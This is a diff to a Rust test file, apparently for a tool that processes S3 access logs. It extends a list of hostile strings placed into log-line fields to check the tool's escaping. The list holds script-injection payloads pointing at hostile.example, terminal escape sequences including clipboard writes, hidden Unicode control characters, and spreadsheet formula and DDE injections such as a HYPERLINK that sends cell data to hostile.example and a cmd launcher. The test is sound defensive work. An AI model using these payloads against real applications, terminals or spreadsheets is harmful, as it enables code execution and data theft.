@@ -9,7 +9,7 @@ use quick_xml::{Reader, XmlVersion};
 use super::{line, run, run_with_input};
 
 /// What strangers may write into a header to be taken for something else.
-pub(crate) const HOSTILE: [&str; 30] = [
+pub(crate) const HOSTILE: [&str; 44] = [
     "<script>document.title='owned'</script>",
     "<img src=http://hostile.example/i onerror=document.title='owned'>",
     "<svg onload=document.title='owned'><a href=http://hostile.example/>",
@@ -40,9 +40,33 @@ pub(crate) const HOSTILE: [&str; 30] = [
     "line\u{2028}separator\u{2029}s",
     " ",
     "<details><summary>open</summary>",
+    "\x1b]8;;http://hostile.example\x1b\\link\x1b]8;;\x07",
+    "\u{9b}31mred\u{9d}0;owned\u{9c}\x7f \x1b[6n\x1b]52;c;b3duZWQ=\x07",
+    "\r\x0b\x0c\x08overwritten",
+    "\u{61c}\u{200f}\u{2067}a\u{e0041}\u{fffb}\u{ad}\u{180e}",
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\u{3000}=1+1",
+    "\u{ff1d}1+1 ;=1+1",
+    "=HYPERLINK(\"http://hostile.example/\"&A1,\"open\")",
+    "'=cmd|'/C calc'!A0,\"=1+1",
 ];
 
-/// Log lines of callers whose names, clients and buckets are hostile: a risky one for each.
+/// A requester that is nothing but a name where that could be a formula, and else a user's ARN.
+fn requester(name: &str) -> String {
+    if name.contains("1+1") {
+        name.to_owned()
+    } else {
+        format!("arn:aws:iam::123456789012:user/{name}")
+    }
+}
+
+/// Log lines of callers whose names, clients, buckets, hosts and cipher suites are hostile: a risky
+/// one for each.
 pub(crate) fn hostile_lines() -> String {
     let long = "A-very-long-name/".repeat(3_000 / 17);
     let mut lines = String::new();
@@ -51,8 +75,10 @@ pub(crate) fn hostile_lines() -> String {
         let name = text.replace(' ', "+");
         for version in ["TLSv1", "-"] {
             let line = line(version, text)
-                .replace("user/alice", &format!("user/{name}"))
-                .replacen(" example-data ", &format!(" {name} "), 1);
+                .replace("arn:aws:iam::123456789012:user/alice", &requester(&name))
+                .replacen(" example-data ", &format!(" {name} "), 1)
+                .replace("example-data.s3.eu-west-1.amazonaws.com", &name)
+                .replace("ECDHE-RSA-AES128-GCM-SHA256", &name);
             lines.push_str(&line);
         }
     }
